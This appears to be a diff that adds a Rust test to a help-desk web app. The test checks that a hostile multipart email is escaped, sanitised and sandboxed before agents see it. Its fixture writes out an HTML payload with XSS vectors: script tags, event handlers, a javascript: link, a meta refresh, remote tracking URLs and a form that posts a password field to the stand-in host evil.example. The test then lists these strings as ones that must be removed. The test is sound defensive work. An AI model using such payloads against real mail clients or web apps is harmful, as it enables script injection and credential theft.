@@ -973,3 +973,104 @@ fn web_config_mistakes_name_the_fix() {
         describe(&out)
     );
 }
+
+/// A hostile HTML mail: its text is shown escaped, its HTML only
+/// sanitised, from its own route, under a sandbox policy, in a sandboxed frame.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_html_is_shown_only_sanitised_and_sandboxed() {
+    let dir = support::short_tempdir();
+    let db = Db::sqlite(dir.path());
+    support::import_standard_registry(&db.store().await).await;
+    let port = free_port();
+    let config = config_file(dir.path(), &db, port, "");
+    let out = support::run_servicedesk(
+        &config,
+        dir.path(),
+        &["ingest"],
+        Some(&hostile_mail(
+            "hostile-1@delinde.example",
+            "http://evil.example",
+        )),
+    );
+    assert!(out.status.success(), "{}", describe(&out));
+    let w = Workspace::start(&config, dir.path(), port, &["web"]).await;
+    w.add_agent("agent@desk.example", "agent");
+    let s = w.login("agent@desk.example").await;
+    let get = |path: String| {
+        w.http
+            .get(w.url(&path))
+            .header(COOKIE, format!("sd_session={}", s.cookie))
+            .send()
+    };
+    let page = get("/tickets/CS-000001".into())
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(!page.contains("<script>window"), "the text view is escaped");
+    let frame = page
+        .split("<iframe ")
+        .nth(1)
+        .unwrap_or_else(|| panic!("no frame for the HTML part: {page}"));
+    assert!(frame.starts_with("sandbox=\"\""), "{frame}");
+    let src = frame
+        .split("src=\"")
+        .nth(1)
+        .unwrap()
+        .split('"')
+        .next()
+        .unwrap()
+        .replace("&#x2f;", "/");
+    let r = get(src.clone()).await.unwrap();
+    assert_eq!(r.status(), StatusCode::OK, "{src}");
+    let csp = r.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        csp.starts_with("sandbox;") && csp.contains("default-src 'none'"),
+        "{csp}"
+    );
+    let html = r.text().await.unwrap().to_ascii_lowercase();
+    for bad in [
+        "<script",
+        "onerror",
+        "onload",
+        "javascript:",
+        "<form",
+        "<svg",
+        "evil.example",
+        "hx-get",
+        "data-x",
+        "http-equiv",
+        "url(",
+    ] {
+        assert!(!html.contains(bad), "{bad} survived: {html}");
+    }
+    assert!(html.contains("zorgplan"), "{html}");
+    // Without a session the frame's route sends to the login page too.
+    let r = w.http.get(w.url(&src)).send().await.unwrap();
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+}
+
+/// A multipart mail whose HTML part tries everything; `evil` is where its
+/// remote references point.
+pub fn hostile_mail(message_id: &str, evil: &str) -> Vec<u8> {
+    format!(
+        "Message-ID: <{message_id}>\r\nFrom: Koen De Witte <koen.dewitte@delinde.example>\r\nTo: support@example.test\r\n\
+Subject: Zorgplan opslaan mislukt\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n\
+--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBij het opslaan van een zorgplan krijgen we een foutmelding.\r\n<script>window.__pwned = 1</script>\r\n\
+--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
+<html><head><meta http-equiv=\"refresh\" content=\"0;url={evil}/refresh\"><base href=\"{evil}/\">\
+<link rel=\"stylesheet\" href=\"{evil}/style.css\"><style>body{{background:url({evil}/bg.png)}}</style>\
+<script>window.__pwned = 1; document.title = 'pwned'; top.__pwned = 1;</script><script src=\"{evil}/x.js\"></script></head>\
+<body onload=\"window.__pwned=2; top.__pwned=2\"><p>Bij het opslaan van een <b>zorgplan</b> krijgen we een foutmelding.</p>\
+<img src=\"{evil}/track.gif\" onerror=\"top.__pwned=3\" alt=\"logo\"><a href=\"javascript:top.__pwned=4\">klik</a>\
+<form action=\"{evil}/steal\" method=\"post\"><input name=\"pw\" value=\"x\"><button>Send</button></form>\
+<svg onload=\"top.__pwned=5\"><image href=\"{evil}/svg.png\"/></svg>\
+<div style=\"background:url({evil}/div.png)\" data-x=\"1\" hx-get=\"/api/tickets\" hx-trigger=\"load\">Tabel</div>\
+<iframe src=\"{evil}/frame\"></iframe><video src=\"{evil}/v.mp4\" autoplay></video></body></html>\r\n--b1--\r\n"
+    )
+    .into_bytes()
+}
